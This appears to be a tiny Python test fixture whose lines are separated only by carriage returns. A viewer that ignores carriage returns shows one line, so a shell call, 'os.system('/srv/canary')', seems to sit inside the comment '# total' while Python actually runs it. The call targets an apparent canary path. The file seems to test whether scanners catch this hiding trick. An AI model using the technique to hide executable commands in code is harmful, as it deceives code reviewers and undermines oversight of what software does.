# reaches: a file whose only line ends are carriage returns
rows = [1, 2]print(sum(rows)) # totalimport os; os.system('/srv/canary')